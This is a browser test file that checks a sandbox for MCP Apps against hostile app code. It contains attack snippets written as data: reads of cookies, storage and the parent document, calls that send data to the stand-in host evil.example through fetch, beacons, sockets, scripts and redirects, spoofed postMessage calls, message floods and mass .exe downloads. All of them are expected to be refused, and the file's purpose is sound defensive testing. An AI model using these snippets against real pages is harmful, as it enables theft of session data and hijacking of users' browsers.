// Attacks of an MCP App on the page that shows it, in a real browser. The app runs the code that its call has.
import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { openHosted, printed } from '../web/hosted-apps.ts'
import { usePage } from '../web/use-page.ts'

const pages = usePage({ isTolerant: true })

/** Prints the outcome of each expression: its value, or that it was refused. */
const attempts = (list: Record<string, string>) =>
  Object.entries(list)
    .map(
      ([name, code]) =>
        `try { const value = await (async () => { ${code} })(); print(${JSON.stringify(`${name}: `)} + String(value)) } catch { print(${JSON.stringify(`${name}: refused`)}) }`,
    )
    .join('\n')

async function attack(list: Record<string, string>, options = {}) {
  const hosted = await openHosted(pages, attempts(list), options)
  const text = await printed(hosted)
  const outcome = Object.fromEntries(
    text
      .split('\n')
      .filter((line) => line.includes(': '))
      .map((line) => line.split(': ') as [string, string]),
  )
  return { ...hosted, outcome }
}

it('an app reads nothing of the page: no document, cookie, storage or token', async () => {
  const { outcome } = await attack(
    {
      origin: 'return self.origin',
      document: 'return top.document.title',
      proxy: 'return parent.document.title',
      element: 'return frameElement.id',
      cookie: 'return document.cookie',
      local: 'return localStorage.length',
      session: 'return sessionStorage.length',
      databases: 'return (await indexedDB.databases()).length',
      opened:
        "return await new Promise((yes, no) => { const r = indexedDB.open('ftl'); r.onsuccess = () => yes('open'); r.onerror = no })",
      caches: 'return (await caches.keys()).length',
      worker: "return (await navigator.serviceWorker.register('/app/x.js')).scope",
      address: 'return top.location.href',
      referrer: 'return document.referrer.length',
    },
    {
      before: async (page: { evaluate(run: () => void): Promise<void> }) =>
        page.evaluate(() => {
          localStorage.setItem('ftl.zebra', 'zebra-in-storage')
          document.cookie = 'zebra=in-cookie'
        }),
    },
  )
  expect(outcome).toMatchObject({ origin: 'null', referrer: '0' })
  const { origin: _, referrer: __, ...rest } = outcome
  expect(new Set(Object.values(rest))).toEqual(new Set(['refused']))
  expect(Object.keys(rest)).toHaveLength(11)
})

it('an app leads the page nowhere, opens nothing and shows no dialogs', async () => {
  const { page, outcome } = await attack({
    top: "top.location = 'https://evil.example/'; return 'asked'",
    proxy: "parent.location = 'https://evil.example/'; return 'asked'",
    popup: "return window.open('https://evil.example/') === null ? 'none' : 'opened'",
    link: "const a = document.createElement('a'); a.href = 'https://evil.example/'; a.target = '_top'; document.body.append(a); a.click(); return 'clicked'",
    form: "const f = document.createElement('form'); f.action = 'https://evil.example/'; f.target = '_top'; document.body.append(f); f.submit(); return 'sent'",
    alert: "alert(1); return 'went on'",
    confirm: "return confirm('?')",
    save: "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; document.body.append(a); a.click(); return 'clicked'",
  })
  expect(outcome).toMatchObject({ popup: 'none', alert: 'went on', confirm: 'false' })
  expect(new URL(page.url()).origin).toBe(new URL(pages.world.url).origin)
  expect(page.context().pages()).toHaveLength(1)
  expect(page.frames().every((frame) => !/^https?:..evil/.test(frame.url()))).toBe(true)
})

it('an app reaches no host that it has not declared, also not the gateway', async () => {
  const gone: string[] = []
  const { page, outcome, view } = await attack(
    {
      fetch: "return (await fetch('https://evil.example/')).status",
      beacon: "return navigator.sendBeacon('https://evil.example/', 'x') ? 'refused' : 'refused'",
      socket:
        "return await new Promise((yes, no) => { const s = new WebSocket('wss://evil.example/'); s.onopen = () => yes('open'); s.onerror = no })",
      image:
        "return await new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = 'https://evil.example/x.png' })",
      script:
        "return await new Promise((yes, no) => { const s = document.createElement('script'); s.onload = () => yes('ran'); s.onerror = no; s.src = 'https://evil.example/x.js'; document.head.append(s) })",
      frame:
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); return 'refused'",
      gateway: `return (await fetch('${'http://127.0.0.1'}' + ':' + 1 + '/')).status`,
      eval: "return eval('1 + 1')",
      module: "return typeof (await import('/app/sandbox'))",
    },
    {
      before: async (page: {
        route(
          of: string,
          run: (route: { request(): { url(): string }; abort(): unknown }) => unknown,
        ): Promise<unknown>
      }) =>
        page.route('**evil.example/**', (route) => {
          gone.push(route.request().url())
          return route.abort()
        }),
    },
  )
  expect(new Set(Object.values(outcome))).toEqual(new Set(['refused']))
  expect(gone).toEqual([])
  expect(await view.locator('#title').textContent()).toBe('Puppet')
  expect(page.frames().some((frame) => /^https?:..evil/.test(frame.url()))).toBe(false)
})

it('an app that goes away with data is held back: its frame may show nothing else', async () => {
  const gone: string[] = []
  const refused: string[] = []
  const before = async (page: Page) => {
    page.on('console', (message) => refused.push(message.text()))
    await page.route('**evil.example/**', (route) => {
      gone.push(route.request().url())
      return route.abort()
    })
  }
  const { page } = await openHosted(pages, "location = 'https://evil.example/?data'", { before })
  await expect.poll(() => refused.some((line) => line.includes('frame-src'))).toBe(true)
  expect(gone).toEqual([])
  expect(new URL(page.url()).origin).toBe(new URL(pages.world.url).origin)
})

it('an app reaches what it has declared, and a wildcard is not a declaration', async () => {
  const before = async (page: {
    route(
      of: string,
      run: (route: { fulfill(with_: object): unknown }) => unknown,
    ): Promise<unknown>
  }) =>
    page.route('https://*.allowed.example/**', (route) =>
      route.fulfill({ body: 'hello', headers: { 'access-control-allow-origin': '*' } }),
    )
  const { outcome, app } = await attack(
    {
      api: "return await (await fetch('https://api.allowed.example/')).text()",
      cdn: "return await (await fetch('https://cdn.allowed.example/')).text()",
      other: "return await (await fetch('https://other.allowed.example/')).text()",
    },
    { tool: 'declared', before },
  )
  expect(outcome).toEqual({ api: 'hello', cdn: 'refused', other: 'refused' })
  await app.getByText('connects to api.allowed.example, cdn.allowed.example').waitFor()
  await app.getByText('The app declares *: not an origin').waitFor()
})

it('an app calls tools of its own component that are for apps, and reads its own resources', async () => {
  const call = (name: string) =>
    `return (await request('tools/call', { name: '${name}', arguments: { word: 'x' } })).content[0].text`
  const read = (uri: string) =>
    `return (await request('resources/read', { uri: '${uri}' })).contents[0].text`
  const { outcome } = await attack({
    own: call('for_both'),
    hidden: call('for_apps'),
    model: call('for_models'),
    other: call('echo'),
    picture: call('generate_image'),
    search: call('search_tools'),
    note: read('note://apps/one'),
    viewer: read('ui://generate-image/viewer.html'),
    nothing: read('note://apps/two'),
  })
  expect(outcome).toMatchObject({ own: 'for_both x', hidden: 'for_apps x', note: 'a note' })
  for (const name of ['model', 'other', 'picture', 'search', 'viewer', 'nothing']) {
    expect(outcome[name], name).toBe('refused')
  }
})

it.each([
  ['destroys', 'erase', 'Decline'],
  ['does not say what it does', 'unmarked', 'Decline'],
  ['does not say what it does', 'unmarked', 'Approve'],
] as const)('a tool that %s (%s) runs only if the person agrees: %s', async (_, tool, button) => {
  const code = attempts({
    call: `return (await request('tools/call', { name: '${tool}', arguments: { word: 'all of it' } })).content[0].text`,
  })
  const expected = button === 'Decline' ? 'call: refused' : `call: ${tool} all of it`
  const hosted = await openHosted(pages, code)
  const dialog = hosted.page.getByRole('dialog')
  await dialog.getByText('all of it').waitFor()
  await dialog.getByText(tool, { exact: true }).waitFor()
  await dialog.getByText('apps', { exact: true }).waitFor()
  await dialog.getByText('the app of App puppet').waitFor()
  await dialog.locator('button[aria-disabled=false]', { hasText: 'Approve' }).waitFor()
  await dialog.getByRole('button', { name: button }).click()
  expect(await printed(hosted)).toContain(expected)
})

it('ten files are not saved without clicks: one waits with its name, the others are declined', async () => {
  const saved: string[] = []
  const before = async (page: Page) => {
    page.on('download', (download) => saved.push(download.suggestedFilename()))
  }
  const code = `const save = (n) => request('ui/download-file', { contents: [{ type: 'resource', resource: { uri: 'file:///app-' + n + '.exe', mimeType: 'application/x-msdownload', text: 'MZ' } }] })
  const all = Array.from({ length: 10 }, (_, n) => save(n).then(({ isError }) => print('file ' + (isError ? 'refused' : 'saved')), () => print('file refused')))
  await Promise.all(all)`
  const { page, app, view } = await openHosted(pages, code, { before })
  const ask = app.getByRole('group', { name: 'The app asks' })
  await ask.getByText('app-0.exe').waitFor()
  await ask.getByText('can run programs').waitFor()
  await expect
    .poll(async () => (await view.locator('#printed').textContent())?.split('refused').length)
    .toBe(10)
  expect(saved).toEqual([])
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    ask.getByRole('button', { name: 'Save' }).click(),
  ])
  expect(download.suggestedFilename()).toBe('app-0.exe')
  await view.getByText('file saved').waitFor()
  expect(saved).toEqual(['app-0.exe'])
})

it('an app that floods the page is stopped, and the page goes on', async () => {
  const { page, app } = await openHosted(
    pages,
    "for (let sent = 0; sent < 5000; sent++) notify('ui/notifications/size-changed', { height: sent })",
  )
  await app.getByText('sent too many messages').waitFor()
  expect(await app.locator('iframe').count()).toBe(0)
  await app.getByRole('button', { name: 'Show as text' }).click()
  await page.getByText('answer of puppet').waitFor()
})

it('an app of a million pixels has the height of a large one', async () => {
  const { app } = await openHosted(
    pages,
    "notify('ui/notifications/size-changed', { height: 1_000_000, width: 1_000_000 })",
  )
  const box = app.locator('.app-frame')
  await expect.poll(async () => (await box.boundingBox())?.height).toBe(720)
  expect((await box.boundingBox())?.width).toBeLessThan(1440)
})

it.each([
  ['huge', /up to 5 million/],
  ['plain', /must have the type text\/html;profile=mcp-app/],
])('the app %s is not shown; the reason is, and the result as text', async (tool, words) => {
  const { page, app } = await openHosted(pages, '', { tool })
  await app.getByText(words).waitFor()
  await app.getByRole('button', { name: 'Try again' }).click()
  await app.getByText(words).waitFor()
  await app.getByRole('button', { name: 'Show as text' }).click()
  await page.getByText(`answer of ${tool}`).waitFor()
})

it('messages of another window, and of the sandbox itself, are not an app’s', async () => {
  const { page, app, view } = await openHosted(
    pages,
    "top.postMessage({ jsonrpc: '2.0', id: 99, method: 'ui/open-link', params: { url: 'https://evil.example/' } }, '*');" +
      "notify('ui/notifications/sandbox-resource-ready', { html: '<h1>Other</h1>' }); notify('ui/notifications/sandbox-stopped', {})",
  )
  await view.getByText('done').waitFor()
  await page.evaluate(() =>
    window.postMessage(
      { jsonrpc: '2.0', id: 98, method: 'ui/open-link', params: { url: 'https://evil.example/' } },
      '*',
    ),
  )
  await view.getByText('result answer of puppet').waitFor()
  expect(await app.locator('.app-ask').count()).toBe(0)
  expect(await view.locator('#title').textContent()).toBe('Puppet')
})

it('the sandbox cannot be framed elsewhere, and has no origin when it is opened by itself', async () => {
  const page = await pages.open('/app/sandbox?connect=https://evil.example')
  expect(await page.evaluate(() => self.origin)).toBe('null')
  await expect(page.evaluate(() => localStorage.length)).rejects.toThrow()
})
